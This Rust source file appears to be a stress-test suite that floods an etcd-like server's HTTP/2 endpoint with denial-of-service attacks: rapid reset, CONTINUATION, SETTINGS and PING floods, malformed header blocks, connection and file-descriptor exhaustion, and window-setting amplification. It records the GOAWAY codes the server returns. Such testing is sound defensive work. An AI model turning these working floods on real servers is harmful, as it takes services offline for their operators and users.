//! Frames without end, connections without end.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::str::FromStr as _;
use std::time::Duration;

use prost::Message as _;
use revd_http2::raw::{call_block, frame};
use revd_proto::etcdserverpb::PutRequest;

use super::attack::{Attack, AttackTarget};
use super::store::PUT;
use crate::caller::call_all;
use crate::keys::value;

/// Connections of attacks that only wait.
const SILENT: usize = 2_000;
/// All entries that fit into one frame of the default size.
const ENTRIES: usize = 2_730;
const WATCH: &str = "/etcdserverpb.Watch/Watch";

pub(super) const ATTACKS: &[Attack] = &[
    // A program that uses a core and leaves the server alone.
    Attack::new("none: a core that is kept busy", 0, |target| {
        while !target.is_over() {
            std::hint::black_box(call_block("/x"));
        }
        Ok(())
    }),
    Attack::new("rapid reset", 0, |target| flood(target, &rapid_reset())).told("GOAWAY 11"),
    Attack::new("continuations", 0, |target| {
        let begun = frame(1, 0, 1, &call_block("/x"));
        flood(target, &[begun, frame(9, 0, 1, &[]).repeat(20_000)].concat())
    }),
    Attack::new("settings", 0, |target| flood(target, &frame(4, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(20_000))),
    Attack::new("pings", 0, |target| flood(target, &frame(6, 0, 0, &[7; 8]).repeat(20_000))),
    Attack::new("empty data", 0, |target| {
        let begun = frame(1, 4, 1, &call_block(WATCH));
        flood(target, &[begun, frame(0, 0, 1, &[]).repeat(20_000)].concat())
    }),
    Attack::new("broken header blocks", 0, |target| flood(target, &frame(1, 5, 1, &[0xff; 40])))
        .told("GOAWAY 9"),
    Attack::new("half-open connections", 0, half_open),
    Attack::new("connect and leave", 21, |target| {
        for _ in 0..1_000 {
            drop(TcpStream::connect(target.address())?);
        }
        Ok(())
    }),
    Attack { descriptors: Some(256), ..Attack::new("all descriptors taken, then writes", 7, descriptors) },
    Attack::new("settings of 2,730 windows", 18, windows),
];

fn rapid_reset() -> Vec<u8> {
    let head = call_block("/etcdserverpb.KV/Range");
    let pair = |at: u32| [frame(1, 4, 1 + 2 * at, &head), frame(3, 0, 1 + 2 * at, &[0, 0, 0, 8])].concat();
    (0..20_000).flat_map(pair).collect()
}

/// Sends all of it and listens to the goodbye.
fn flood(target: &AttackTarget, bytes: &[u8]) -> anyhow::Result<()> {
    let mut stream = target.raw()?;
    // Being sent away in the middle is what should happen.
    let is_sent = stream.write_all(bytes).is_ok();
    stream.set_read_timeout(Some(Duration::from_millis(if is_sent { 50 } else { 5 })))?;
    let (mut said, mut buffer) = (Vec::new(), vec![0; 64 * 1024]);
    while let Ok(read @ 1..) = stream.read(&mut buffer) {
        said.extend_from_slice(&buffer[..read]);
    }
    let told = goodbye(&said).map_or_else(|| "no goaway frame".to_owned(), |code| format!("GOAWAY {code}"));
    target.tally.told(&told);
    Ok(())
}

/// The code of the last goodbye in what was said.
fn goodbye(mut said: &[u8]) -> Option<u32> {
    let mut code = None;
    while let Some((head, behind)) = said.split_first_chunk::<9>() {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let Some((payload, behind)) = behind.split_at_checked(length) else { break };
        if head[3] == 7 {
            code = payload.get(4..8).and_then(|code| Some(u32::from_be_bytes(code.try_into().ok()?)));
        }
        said = behind;
    }
    code
}

fn half_open(target: &AttackTarget) -> anyhow::Result<()> {
    let begun = frame(1, 0, 1, &call_block("/etcdserverpb.KV/Put"));
    let mut first = target.raw()?;
    first.write_all(&begun)?;
    let address = first.peer_addr()?;
    let timeout = Duration::from_millis(100);
    let held: Vec<_> =
        (0..SILENT).map_while(|_| TcpStream::connect_timeout(&address, timeout).ok()).collect();
    target.linger(Duration::from_secs(1));
    drop(held);
    Ok(())
}

/// Idle clients take every descriptor, and then the log needs new files.
fn descriptors(target: &AttackTarget) -> anyhow::Result<()> {
    let mut writer = target.caller()?;
    let address = std::net::SocketAddr::from_str(target.address())?;
    let timeout = Duration::from_millis(20);
    let held: Vec<_> = (0..300).map_while(|_| TcpStream::connect_timeout(&address, timeout).ok()).collect();
    let put = PutRequest { key: "attacker".into(), value: value(100_000, 1), ..PutRequest::default() };
    for _ in 0..8 {
        call_all(&mut writer, PUT, std::iter::repeat_n(put.encode_to_vec(), 100))?;
        target.tally.told_times("ok", 100);
        if target.is_over() {
            break;
        }
    }
    drop(held);
    Ok(())
}

/// Many open streams, then SETTINGS that change the window of all of them thousands of times.
fn windows(target: &AttackTarget) -> anyhow::Result<()> {
    const STREAMS: u32 = 9_000;
    let mut stream = target.raw()?;
    stream.set_write_timeout(Some(Duration::from_secs(5)))?;
    let open = |at: u32| frame(1, 4, 1 + 2 * at, &call_block(WATCH));
    stream.write_all(&(0..STREAMS).flat_map(open).collect::<Vec<u8>>())?;
    let entries: Vec<u8> = (0..ENTRIES).flat_map(|at| [0, 4, 0, 1, 0, u8::from(at % 2 == 1)]).collect();
    let settings = frame(4, 0, 0, &entries);
    let mut buffer = vec![0; 64 * 1024];
    stream.set_nonblocking(true)?;
    for _ in 0..20 {
        if target.is_over() {
            break;
        }
        let mut rest = &settings[..];
        while !rest.is_empty() && !target.is_over() {
            match stream.write(rest) {
                Ok(written) => rest = &rest[written..],
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(_) => return said_goodbye(target, &buffer),
            }
            if let Ok(0) = stream.read(&mut buffer) {
                return said_goodbye(target, &buffer);
            }
            target.linger(Duration::from_millis(5));
        }
    }
    Ok(())
}

fn said_goodbye(target: &AttackTarget, said: &[u8]) -> anyhow::Result<()> {
    target.tally.told(&goodbye(said).map_or_else(|| "closed".to_owned(), |code| format!("GOAWAY {code}")));
    Ok(())
}
